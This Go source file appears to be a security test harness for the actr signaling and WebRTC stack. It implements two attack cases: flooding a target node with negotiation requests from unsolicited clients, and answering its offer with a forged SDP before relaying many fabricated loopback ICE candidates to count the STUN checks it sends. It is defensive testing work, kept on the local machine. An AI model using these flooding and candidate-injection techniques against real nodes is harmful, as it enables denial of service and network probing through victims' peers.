package main

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"google.golang.org/protobuf/proto"

	"github.com/actr-go/actr/protocol"
	"github.com/actr-go/actr/signaling"
)

// peakSessions polls the target node's open WebRTC sessions until ctx
// ends and returns the most seen.
func (e *env) peakSessions(ctx context.Context) int {
	peak := -1
	for ctx.Err() == nil {
		if m, err := fetchMetrics(ctx, e.nodeMetrics, "actr_webrtc_sessions"); err == nil {
			if v, ok := m["actr_webrtc_sessions"]; ok {
				peak = max(peak, int(v))
			}
		}
		pause(ctx, 500*time.Millisecond)
	}
	return peak
}

// parallel runs f(i) for i in [0, n) on workers goroutines.
func parallel(ctx context.Context, n, workers int, f func(i int)) {
	jobs := make(chan int)
	var wg sync.WaitGroup
	for range workers {
		wg.Go(func() {
			for i := range jobs {
				f(i)
			}
		})
	}
	for i := range n {
		if ctx.Err() != nil {
			break
		}
		jobs <- i
	}
	close(jobs)
	wg.Wait()
}

// H8: strangers (registered signaling clients the node never dialled)
// each ask the server to negotiate roles with the target node.
func h8(ctx context.Context, e *env, t *tally, ready func()) error {
	clients := make([]*signaling.Client, e.strangers)
	var regRefused atomic.Int64
	defer parallel(context.Background(), len(clients), 32, func(i int) {
		if clients[i] != nil {
			_ = clients[i].Close()
		}
	})
	start := time.Now()
	parallel(ctx, e.strangers, 32, func(i int) {
		c, err := e.dialSignal(ctx, "stranger")
		if err != nil {
			regRefused.Add(1)
			t.refused.Add(1)
			return
		}
		clients[i] = c
	})
	regTime := time.Since(start)
	var negOK, negRefused atomic.Int64
	errs := sync.Map{}
	sessions := make(chan int, 1)
	pctx, stopPoll := context.WithCancel(ctx)
	go func() { sessions <- e.peakSessions(pctx) }()
	start = time.Now()
	parallel(ctx, len(clients), 64, func(i int) {
		c := clients[i]
		if c == nil {
			return
		}
		nctx, cancel := context.WithTimeout(ctx, 10*time.Second)
		defer cancel()
		_, err := c.NegotiateRole(nctx, e.target)
		t.sent.Add(1)
		if err != nil {
			negRefused.Add(1)
			t.refused.Add(1)
			errs.LoadOrStore(oneLine(err.Error()), true)
			return
		}
		negOK.Add(1)
	})
	negTime := time.Since(start)
	ready()
	<-ctx.Done()
	stopPoll()
	peak := <-sessions
	offers := 0
	for _, c := range clients {
		if c == nil {
			continue
		}
	drain:
		for {
			select {
			case r := <-c.Relays():
				if r.Msg.GetSessionDescription().GetType() == protocol.SessionDescription_OFFER {
					offers++
				}
			default:
				break drain
			}
		}
	}
	t.note("%d strangers registered in %.1f s (%d refused); %d negotiations answered in %.1f s, %d refused; the node sent %d offers back; its open WebRTC sessions peaked at %d",
		e.strangers-int(regRefused.Load()), regTime.Seconds(), regRefused.Load(), negOK.Load(), negTime.Seconds(), negRefused.Load(), offers, peak)
	errs.Range(func(k, _ any) bool { t.note("refusal: %s", k); return false })
	return nil
}

// H9: one stranger opens a session with the target (the target offers,
// it answers with a made-up SDP) and relays many ICE candidates naming
// 127/8 addresses. Some name UDP ports this program listens on, to count
// the STUN checks the target sends to them; the others name port 9 on
// 127.0.0.2–251, where nothing listens. Nothing leaves the machine.
func h9(ctx context.Context, e *env, t *tally, ready func()) error {
	c, err := e.dialSignal(ctx, "h9")
	if err != nil {
		return err
	}
	defer c.Close()
	const listeners = 16
	var stun [listeners]atomic.Int64
	var conns []*net.UDPConn
	var wg sync.WaitGroup
	defer func() {
		for _, u := range conns {
			u.Close()
		}
		wg.Wait()
	}()
	for i := range listeners {
		u, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
		if err != nil {
			return err
		}
		conns = append(conns, u)
		wg.Go(func() {
			buf := make([]byte, 1500)
			for {
				n, _, err := u.ReadFromUDP(buf)
				if err != nil {
					return
				}
				if n >= 20 && binary.BigEndian.Uint32(buf[4:8]) == 0x2112A442 {
					stun[i].Add(1)
				}
			}
		})
	}
	nctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	offerer, err := c.NegotiateRole(nctx, e.target)
	cancel()
	if err != nil {
		t.refused.Add(1)
		return err
	}
	if offerer {
		return errors.New("the server made this stranger the offerer; this attack answers the target's offer")
	}
	var offer *protocol.SessionDescription
	wait := time.NewTimer(10 * time.Second)
	defer wait.Stop()
	for offer == nil {
		select {
		case r := <-c.Relays():
			if sd := r.Msg.GetSessionDescription(); sd != nil && sd.GetType() == protocol.SessionDescription_OFFER && r.From == e.target {
				offer = sd
			}
		case <-wait.C:
			t.refused.Add(1)
			return errors.New("the target sent no offer within 10 s")
		case <-ctx.Done():
			return nil
		}
	}
	ufrag := "atk" + randHex(4)
	answer, mid := fakeAnswer(offer.GetSdp(), ufrag, randHex(12))
	if err := c.SendSessionDescription(e.target, &protocol.SessionDescription{Type: protocol.SessionDescription_ANSWER.Enum(), Sdp: proto.String(answer)}); err != nil {
		return err
	}
	every := max(1, e.candidates/listeners)
	tick := time.NewTicker(relayPace)
	defer tick.Stop()
	for i := range e.candidates {
		ip, port := fmt.Sprintf("127.0.0.%d", 2+i%250), 9
		if i%every == 0 && i/every < listeners {
			ip, port = "127.0.0.1", conns[i/every].LocalAddr().(*net.UDPAddr).Port
		}
		cand := fmt.Sprintf("candidate:%d 1 udp %d %s %d typ host", 100000+i, 2130706431-i, ip, port)
		select {
		case <-ctx.Done():
			return nil
		case <-tick.C:
		}
		if err := c.SendIceCandidate(e.target, &protocol.IceCandidate{Candidate: proto.String(cand), SdpMid: proto.String(mid),
			SdpMlineIndex: proto.Uint32(0), UsernameFragment: proto.String(ufrag)}); err != nil {
			t.refused.Add(1)
			continue
		}
		t.sent.Add(1)
	}
	ready()
	<-ctx.Done()
	hit, total := 0, int64(0)
	for i := range stun {
		if n := stun[i].Load(); n > 0 {
			hit++
			total += n
		}
	}
	refusals := 0
	for len(c.Refusals()) > 0 {
		<-c.Refusals()
		refusals++
	}
	t.refused.Add(int64(refusals))
	t.note("%d candidates relayed in one session (%d relay refusals); the target sent %d STUN checks to %d of the %d listening ports named", t.sent.Load(), refusals, total, hit, listeners)
	return nil
}

func randHex(n int) string {
	b := make([]byte, n)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}

// fakeAnswer turns an offer into an answer with another ICE ufrag/pwd
// and a made-up fingerprint: enough for the target to start ICE checks
// against the candidates relayed after it. It returns the answer and the
// data channel's mid.
func fakeAnswer(offer, ufrag, pwd string) (string, string) {
	fp := make([]string, 32)
	for i := range fp {
		fp[i] = strings.ToUpper(randHex(1))
	}
	mid := "0"
	var out []string
	for line := range strings.SplitSeq(strings.ReplaceAll(offer, "\r\n", "\n"), "\n") {
		switch {
		case line == "":
			continue
		case strings.HasPrefix(line, "a=setup:"):
			line = "a=setup:active"
		case strings.HasPrefix(line, "a=ice-ufrag:"):
			line = "a=ice-ufrag:" + ufrag
		case strings.HasPrefix(line, "a=ice-pwd:"):
			line = "a=ice-pwd:" + pwd
		case strings.HasPrefix(line, "a=fingerprint:"):
			line = "a=fingerprint:sha-256 " + strings.Join(fp, ":")
		case strings.HasPrefix(line, "a=candidate:"), strings.HasPrefix(line, "a=end-of-candidates"):
			continue
		case strings.HasPrefix(line, "a=mid:"):
			mid = strings.TrimPrefix(line, "a=mid:")
		}
		out = append(out, line)
	}
	return strings.Join(out, "\r\n") + "\r\n", mid
}
